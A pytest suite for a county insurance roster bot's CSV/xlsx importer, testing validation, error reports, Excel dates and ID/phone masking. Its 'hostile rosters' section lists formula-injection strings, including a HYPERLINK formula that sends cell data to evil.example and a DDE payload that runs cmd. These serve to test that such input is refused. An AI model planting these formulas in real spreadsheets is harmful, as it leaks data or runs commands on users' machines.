"""Imports, on every backend: all or nothing, every bad row named, re-import changes nothing, CSV and xlsx."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import func, select, text

from bot.store import digits, ids
from bot.store.imports import ImportRefused, ImportResult, import_file
from bot.store.models import AuditLog, Contact, Payment, Resident, ResidentCategory
from tests.conftest import HMAC_KEY, Store
from tests.store import hostile, rosters

TODAY = dt.date(2024, 11, 20)


async def run(store: Store, kind: str, path: Path, region: str | None = "陵川县", **kw: Any) -> ImportResult:
    return await import_file(store.engine, store.registry, store.settings, kind, path, region=region,
                             today=TODAY, **kw)


async def count(store: Store, model: Any) -> int:
    async with store.sessions() as s:
        return (await s.execute(select(func.count()).select_from(model))).scalar_one()


async def snapshot(store: Store) -> dict[str, list[tuple]]:
    tables = {"residents": "id", "resident_categories": "resident_id, category", "payments": "id",
              "contacts": "id"}
    async with store.engine.connect() as conn:
        return {t: [tuple(r) for r in await conn.execute(text(f"SELECT * FROM {t} ORDER BY {o}"))]
                for t, o in tables.items()}


def reasons(result: ImportResult) -> dict[int, str]:
    return {e.row: f"{e.column}:{e.reason}" for e in result.error_sample}


async def test_good_roster_then_reimport_changes_nothing(store: Store, tmp_path: Path) -> None:
    rows = rosters.residents(200)
    path = rosters.write_csv(tmp_path / "residents.csv", rosters.RESIDENT_HEADER, rows)
    result = await run(store, "residents", path)
    assert result.ok, result.error_sample
    assert (result.rows, result.inserted, result.updated, result.year) == (200, 200, 0, 2025)
    assert result.errors_path is None and not (tmp_path / "residents.csv.errors.csv").exists()

    first = rows[0]
    async with store.sessions() as s:
        person = (await s.execute(select(Resident).where(Resident.id_hmac == ids.id_hmac(first[2], HMAC_KEY))))\
            .scalar_one()
        cats = set((await s.execute(select(ResidentCategory.category).where(
            ResidentCategory.resident_id == person.id))).scalars())
        six = (await s.execute(select(Resident).where(Resident.id_hmac == ids.id_hmac(rows[6][2], HMAC_KEY))))\
            .scalar_one()
        six_cats = set((await s.execute(select(ResidentCategory.category).where(
            ResidentCategory.resident_id == six.id, ResidentCategory.insurance_year == 2025))).scalars())
    assert (person.name, person.county, person.township, person.village) == (first[1], "陵川县", "崇文镇", "第1村")
    assert person.id_masked == ids.mask(first[2]) and person.birth_date == ids.birth_date(first[2])
    assert person.sex == ids.sex(first[2]) and person.phone_masked == "138****0000"
    assert cats == set()
    assert six_cats == {"monitored", "dibao"}  # 监测对象、低保户

    before = await snapshot(store)
    again = await run(store, "residents", path)
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, 200)
    assert (again.categories_added, again.categories_removed) == (0, 0)
    assert await snapshot(store) == before
    async with store.sessions() as s:
        audit = (await s.execute(select(AuditLog).order_by(AuditLog.id))).scalars().all()
    assert [a.action for a in audit] == ["import.residents", "import.residents"]
    assert audit[0].detail["inserted"] == 200 and audit[1].detail["unchanged"] == 200


async def test_one_bad_row_among_ten_thousand_imports_nothing(store: Store, tmp_path: Path) -> None:
    rows = rosters.residents(10_000)
    bad = rows[7_321]
    bad[2] = bad[2][:17] + ("0" if bad[2][17] != "0" else "1")  # a mistyped check digit
    path = rosters.write_csv(tmp_path / "residents.csv", rosters.RESIDENT_HEADER, rows)
    result = await run(store, "residents", path)
    assert not result.ok and result.errors == 1
    (error,) = result.error_sample
    assert error.row == 7_323  # header is row 1, so data row 7,322
    assert error.column == "身份证号" and "校验位" in error.reason
    assert error.value == ids.mask(bad[2])
    assert await count(store, Resident) == 0 and await count(store, ResidentCategory) == 0
    assert await count(store, AuditLog) == 0

    assert result.errors_path == tmp_path / "residents.csv.errors.csv"
    with result.errors_path.open(encoding="utf-8-sig") as f:
        report = list(csv.reader(f))
    assert report[0] == ["行号", "列", "内容", "原因"]
    assert report[1][:2] == ["7323", "身份证号"] and "校验位" in report[1][3]
    assert bad[2] not in result.errors_path.read_text(encoding="utf-8-sig")

    bad[2] = rosters.residents(10_001)[-1][2]  # fixed: the next import succeeds and removes the stale report
    rosters.write_csv(path, rosters.RESIDENT_HEADER, rows)
    assert (await run(store, "residents", path)).inserted == 10_000
    assert not result.errors_path.exists()


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "utf-8"])
async def test_csv_encodings(store: Store, tmp_path: Path, encoding: str) -> None:
    rows = rosters.residents(30)
    path = rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, rows, encoding=encoding)
    result = await run(store, "residents", path)
    assert result.ok, result.error_sample
    async with store.sessions() as s:
        names = set((await s.execute(select(Resident.name))).scalars())
    assert names == {r[1] for r in rows}


async def test_xlsx_with_english_headers_and_excel_dates(store: Store, tmp_path: Path) -> None:
    rows = rosters.residents(20)
    header = ["name", "id_number", "township", "village", "category", "phone"]
    path = rosters.write_xlsx(tmp_path / "r.xlsx", header, [r[1:] for r in rows])
    assert (await run(store, "residents", path)).inserted == 20
    pays = [[r[2], "2025年度", 80.0, dt.datetime(2024, 10, 8, 9, 30), "支付宝"] for r in rows[:5]]
    pays[1][2], pays[1][3] = "￥400", 45_611  # an Excel serial date: 2024-11-15
    path = rosters.write_xlsx(tmp_path / "p.xlsx", ["id_number", "year", "amount", "paid_on", "channel"], pays)
    result = await run(store, "payments", path)
    assert result.ok and result.inserted == 5, result.error_sample
    async with store.sessions() as s:
        paid = (await s.execute(select(Payment.amount, Payment.paid_on).order_by(Payment.paid_on))).all()
    assert (400, dt.date(2024, 11, 15)) in paid and (80, dt.date(2024, 10, 8)) in paid


async def test_id_number_stored_as_a_number_in_excel_is_refused(store: Store, tmp_path: Path) -> None:
    row = rosters.residents(1)[0]
    path = rosters.write_xlsx(tmp_path / "r.xlsx", rosters.RESIDENT_HEADER, [[*row[:2], float(row[2][:17]), *row[3:]]])
    result = await run(store, "residents", path)
    assert "存成了数字" in reasons(result)[2]


async def test_every_resident_error_kind_is_reported(store: Store, tmp_path: Path) -> None:
    rows = rosters.residents(12)
    good_id = rows[0][2]
    rows[1][2] = good_id[:17] + ("1" if good_id[17] != "1" else "2")  # checksum
    rows[2][2] = good_id[:10] + "1332" + good_id[14:]  # 13th month
    rows[3][2] = good_id[:16]  # length
    rows[4][1] = ""  # name
    rows[5][3] = "不存在镇"  # township
    rows[6][5] = "低保、外星人"  # category
    rows[7][6] = "12345"  # phone
    rows[8][2] = good_id  # duplicate of row 2
    rows[9][1] = "张三3"  # digits in a name
    path = rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, rows)
    result = await run(store, "residents", path)
    got = reasons(result)
    assert result.errors == 9 and await count(store, Resident) == 0
    assert "校验位" in got[3]
    assert "出生日期" in got[4]
    assert "18位" in got[5]
    assert got[6].startswith("姓名:") and "为空" in got[6]
    assert "不存在镇" in got[7] and "乡镇" in got[7]
    assert "外星人" in got[8]
    assert "电话号码" in got[9]
    assert "与第2行重复" in got[10]
    assert "人名" in got[11]
    assert good_id not in result.errors_path.read_text(encoding="utf-8-sig")


async def test_missing_header_column_is_row_one(store: Store, tmp_path: Path) -> None:
    path = rosters.write_csv(tmp_path / "r.csv", ["姓名", "乡镇"], [["张三", "崇文镇"]])
    result = await run(store, "residents", path)
    assert "缺少“身份证号”列" in reasons(result)[1]


async def test_unknown_region_is_refused(store: Store, tmp_path: Path) -> None:
    path = rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, rosters.residents(1))
    with pytest.raises(ImportRefused, match="不认识的地区"):
        await run(store, "residents", path, region="火星县")


async def test_town_roster_checks_villages(store: Store, tmp_path: Path) -> None:
    header = ["姓名", "身份证号", "村", "身份类别"]
    rows = [[r[1], r[2], village, ""] for r, village in zip(
        rosters.residents(3, region="周集镇"), ["班台村", "大成村", "小王庄"], strict=True)]
    path = rosters.write_csv(tmp_path / "z.csv", header, rows)
    result = await run(store, "residents", path, region="周集")
    assert list(reasons(result)) == [4] and "小王庄" in reasons(result)[4]
    rows[2][2] = "朱港村"
    rosters.write_csv(path, header, rows)
    assert (await run(store, "residents", path, region="周集")).inserted == 3
    async with store.sessions() as s:
        places = set((await s.execute(select(Resident.county, Resident.township, Resident.village))).all())
    assert places == {("周集镇", "周集镇", "班台村"), ("周集镇", "周集镇", "大成村"), ("周集镇", "周集镇", "朱港村")}


async def test_categories_follow_the_roster(store: Store, tmp_path: Path) -> None:
    rows = rosters.residents(10)
    path = rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, rows)
    first = await run(store, "residents", path)
    rows[6][5] = "低保"  # was 监测对象、低保户
    rows[0][5] = "特困人员、孤儿"
    rows[0][1] = rows[0][1] + "某"  # a corrected name
    rosters.write_csv(path, rosters.RESIDENT_HEADER, rows)
    again = await run(store, "residents", path)
    assert first.categories_added == 5
    assert (again.inserted, again.updated, again.unchanged) == (0, 1, 9)
    assert (again.categories_added, again.categories_removed) == (2, 1)


async def test_payments_every_error_kind_then_update(store: Store, tmp_path: Path) -> None:
    people = rosters.residents(10)
    await run(store, "residents", rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, people))
    stranger = rosters.residents(1, seed=99)[0]
    pays = rosters.payments(people)
    pays[1][3] = "2024年13月1日"  # no such date
    pays[2][3] = "去年冬天"  # not a date
    pays[3][2] = "-400"
    pays[4][2] = "400.5"
    pays[5][1] = "二〇二五"
    pays[6][3] = "2021-01-01"  # outside the year's collection
    pays[7][3] = "2024-12-01"  # after "today"
    pays[8][0] = stranger[2]  # not in the roster
    pays.append(list(pays[0]))  # duplicate (person, year)
    path = rosters.write_csv(tmp_path / "p.csv", rosters.PAYMENT_HEADER, pays)
    result = await run(store, "payments", path, region=None)
    got = reasons(result)
    assert sorted(got) == [3, 4, 5, 6, 7, 8, 9, 10, 12] and await count(store, Payment) == 0
    assert "不存在" in got[3] and "无法识别" in got[4] and "负数" in got[5] and "整数" in got[6]
    assert "年度" in got[7] and "缴费时间范围" in got[8] and "晚于今天" in got[9]
    assert "名册中没有此人" in got[10] and "与第2行重复" in got[12]

    good = rosters.payments(people)
    path = rosters.write_csv(tmp_path / "p.csv", rosters.PAYMENT_HEADER, good)
    assert (await run(store, "payments", path)).inserted == 10
    good[0][2], good[0][4] = 80, "村便民服务站"
    rosters.write_csv(path, rosters.PAYMENT_HEADER, good)
    again = await run(store, "payments", path)
    assert (again.inserted, again.updated, again.unchanged) == (0, 1, 9)
    wrong_region = await run(store, "payments", path, region="罗山县")
    assert wrong_region.errors == 10 and "属于陵川县" in wrong_region.error_sample[0].reason


async def test_csv_dates_exported_as_excel_serial_numbers(store: Store, tmp_path: Path) -> None:
    """A date column saved as numbers shows 45611 for 2024-11-15 (days since 1899-12-30): read as the date in
    a CSV as in an xlsx, within 2000-01-01 .. 2100-12-31; any other number is refused, saying what it likely is."""
    people = rosters.residents(6)
    await run(store, "residents", rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, people))
    pays = rosters.payments(people)
    pays[0][3], pays[1][3] = "45611", "45611.4375"  # 2024-11-15, and 10:30 that day
    pays[2][3], pays[3][3], pays[4][3] = "12345", "99999", "3"  # 1933, 2173, 1900: no payment date
    path = rosters.write_csv(tmp_path / "p.csv", rosters.PAYMENT_HEADER, pays)
    got = reasons(await run(store, "payments", path))
    assert sorted(got) == [4, 5, 6]
    for row, number in ((4, "12345"), (5, "99999"), (6, "3")):
        assert got[row].startswith("缴费日期:") and f"“{number}”" in got[row]
        assert "Excel" in got[row] and "日期序号" in got[row] and "2000年1月1日" in got[row], got[row]

    del pays[2:5]
    rosters.write_csv(path, rosters.PAYMENT_HEADER, pays)
    result = await run(store, "payments", path)
    assert result.ok and result.inserted == 3, result.error_sample
    async with store.sessions() as s:
        paid = sorted((await s.execute(select(Payment.paid_on))).scalars())
    assert paid.count(dt.date(2024, 11, 15)) == 2


async def test_xlsx_serial_numbers_outside_the_range_are_named_as_such(store: Store, tmp_path: Path) -> None:
    people = rosters.residents(2)
    await run(store, "residents", rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, people))
    pays = [[p[2], 2025, 400, serial, "微信"] for p, serial in zip(people, (30_000, 45_611.5), strict=True)]
    path = rosters.write_xlsx(tmp_path / "p.xlsx", rosters.PAYMENT_HEADER, pays)
    got = reasons(await run(store, "payments", path))
    assert list(got) == [2] and "“30000”" in got[2] and "日期序号" in got[2]


async def test_xlsx_dates_typed_as_eight_digit_numbers_are_read_as_dates(store: Store, tmp_path: Path) -> None:
    # 20241120 typed into a number cell (common in county spreadsheets) is that day, not a serial out of range.
    people = rosters.residents(2)
    await run(store, "residents", rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, people))
    pays = [[p[2], 2025, 400, day, "微信"] for p, day in zip(people, (20241120, 45611), strict=True)]
    result = await run(store, "payments", rosters.write_xlsx(tmp_path / "p.xlsx", rosters.PAYMENT_HEADER, pays))
    assert result.inserted == 2, reasons(result)
    async with store.sessions() as s:
        days = set((await s.execute(select(Payment.paid_on))).scalars())
    assert days == {dt.date(2024, 11, 20), dt.date(2024, 11, 15)}


async def test_payments_year_from_the_command_line(store: Store, tmp_path: Path) -> None:
    people = rosters.residents(3)
    await run(store, "residents", rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, people))
    rows = [[p[2], 400, "2024/10/01"] for p in people]
    path = rosters.write_csv(tmp_path / "p.csv", ["身份证号", "缴费金额", "缴费日期"], rows)
    assert "缺少“年度”列" in reasons(await run(store, "payments", path))[1]
    result = await run(store, "payments", path, year=2025)
    assert result.inserted == 3
    async with store.sessions() as s:
        assert set((await s.execute(select(Payment.insurance_year))).scalars()) == {2025}


async def test_contacts_import_and_reimport(store: Store, tmp_path: Path) -> None:
    rows = [
        ["分管领导", "崇文镇", "虚构甲", "13800000001"],
        ["经办人", "崇文镇", "虚构乙", "138-0000-0002"],
        ["医保包片领导", "礼义镇", "虚构丙", "13800000003"],
        ["负责人", "", "虚构丁", "0356-1234567"],
        ["协调员", "", "虚构戊", "13800000005"],
    ]
    path = rosters.write_csv(tmp_path / "c.csv", rosters.CONTACT_HEADER, rows)
    assert (await run(store, "contacts", path)).inserted == 5
    again = await run(store, "contacts", path)
    assert (again.inserted, again.updated, again.unchanged) == (0, 0, 5)
    async with store.sessions() as s:
        got = set((await s.execute(select(Contact.role, Contact.township, Contact.phone))).all())
    assert ("包片领导", "礼义镇", "13800000003") in got and ("经办人", "崇文镇", "13800000002") in got

    bad = [["村长", "崇文镇", "虚构己", "13800000006"], ["经办人", "", "虚构庚", "13800000007"],
           ["分管领导", "崇文镇", "虚构辛", "110"]]
    result = await run(store, "contacts", rosters.write_csv(tmp_path / "c2.csv", rosters.CONTACT_HEADER, bad))
    got = reasons(result)
    assert "角色" in got[2] and "须填写所在乡镇" in got[3] and "电话号码" in got[4]


async def test_the_documented_samples_import_cleanly(store: Store, tmp_path: Path) -> None:
    samples = Path(__file__).resolve().parents[2] / "docs" / "samples"
    for kind, name in [("residents", "residents.csv"), ("residents", "residents.xlsx"),
                       ("payments", "payments.csv"), ("contacts", "contacts.csv")]:
        copy = tmp_path / name  # an errors file would be written next to it, not into the repository
        copy.write_bytes((samples / name).read_bytes())
        result = await run(store, kind, copy)
        assert result.ok and result.inserted == result.rows > 0, (name, result.error_sample)
    assert await count(store, Resident) == 17 and await count(store, Payment) == 6


# -- hostile rosters ---------------------------------------------------------------------------------


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "＝1+1", "张三=1", 'HYPERLINK("x")', "李\x07四"]


async def test_formulas_in_names_and_places_are_refused(store: Store, tmp_path: Path) -> None:
    rows = rosters.residents(len(FORMULAS) * 2)
    for i, formula in enumerate(FORMULAS):
        rows[2 * i][1] = formula  # 姓名
        rows[2 * i + 1][4] = formula  # 村(社区)
    path = rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, rows)
    result = await run(store, "residents", path)
    assert result.errors == len(rows) and await count(store, Resident) == 0
    assert all("公式" in e.reason or "人名" in e.reason for e in result.error_sample), reasons(result)
    with result.errors_path.open(encoding="utf-8-sig", newline="") as f:
        report = list(csv.reader(f))[1:]
    shown = [line[2] for line in report]
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝")) for line in report for cell in line)
    assert "'" + FORMULAS[0][:40] in shown and "'+cmd|' /C calc'!A0" in shown  # quoted cells are cut at 40

    people = rosters.residents(3)
    assert (await run(store, "residents", rosters.write_csv(tmp_path / "ok.csv", rosters.RESIDENT_HEADER,
                                                            people))).ok
    pays = rosters.payments(people)
    pays[0][4] = "=1+1"  # 缴费渠道
    result = await run(store, "payments", rosters.write_csv(tmp_path / "p.csv", rosters.PAYMENT_HEADER, pays))
    assert list(reasons(result)) == [2] and "缴费渠道含有公式" in reasons(result)[2]
    contacts = [["经办人", "崇文镇", "@虚构甲", "13800000001"], ["经办人", "=崇文镇", "虚构乙", "13800000002"]]
    result = await run(store, "contacts", rosters.write_csv(tmp_path / "c.csv", rosters.CONTACT_HEADER, contacts))
    assert set(reasons(result)) == {2, 3} and await count(store, Contact) == 0


async def test_numbers_in_the_wrong_column_are_masked_in_every_report(store: Store, tmp_path: Path) -> None:
    """An ID or phone number in any column, typed any way, never appears in clear on the screen or in the
    report, and is not stored as a village (free text for a county)."""
    rows = rosters.residents(6)
    number, phone = rows[0][2], "13912345678"
    rows[0][1] = number  # the ID in 姓名
    rows[1][4] = f"{phone[:3]}\u3000{phone[3:7]}\u3000{phone[7:]}"  # a phone in 村, with ideographic spaces
    rows[2][5] = f"+86 {phone}"  # in 身份类别
    rows[3][3] = number.translate(str.maketrans("0123456789", "０１２３４５６７８９"))  # full-width, in 乡镇
    rows[4][4] = f"{number[:6]}\t{number[6:]}"  # tab inside, in 村
    path = rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, rows)
    result = await run(store, "residents", path)
    assert set(reasons(result)) == {2, 3, 4, 5, 6}, reasons(result)
    shown = "\n".join(f"{e.column} {e.value} {e.reason}" for e in result.error_sample)
    report = result.errors_path.read_text(encoding="utf-8-sig")
    for out in (shown, report):
        assert ids.mask(number) in out and "139****5678" in out
        for m in digits.numbers_in(out):
            folded = digits.fold(m[0])
            assert not digits.is_id_shaped(folded) and not digits.mobile(folded), m[0]
    assert await count(store, Resident) == 0


@pytest.mark.parametrize(("name", "builder"), hostile.HOSTILE_XLSX.values(), ids=hostile.HOSTILE_XLSX.keys())
async def test_unreadable_files_are_refused_and_leave_no_report(store: Store, tmp_path: Path, name: str,
                                                                builder: Any) -> None:
    path = builder(tmp_path / name)
    stale = tmp_path / f"{name}.errors.csv"
    stale.write_text("an earlier attempt's report", encoding="utf-8")
    with pytest.raises(ImportRefused, match=f"无法读取 {name}："):
        await run(store, "residents", path)
    assert not stale.exists() and await count(store, Resident) == 0


async def test_a_number_in_the_file_name_is_not_stored(store: Store, tmp_path: Path) -> None:
    people = rosters.residents(3)
    assert (await run(store, "residents", rosters.write_csv(tmp_path / "r.csv", rosters.RESIDENT_HEADER, people))).ok
    path = rosters.write_csv(tmp_path / "张三13912345678.csv", rosters.PAYMENT_HEADER, rosters.payments(people))
    assert (await run(store, "payments", path)).inserted == 3
    async with store.sessions() as s:
        sources = set((await s.execute(select(Payment.source))).scalars())
        files = [a.detail["file"] for a in (await s.execute(select(AuditLog))).scalars()]
    assert sources == {"import:张三139****5678.csv"} and files[-1] == "张三139****5678.csv"
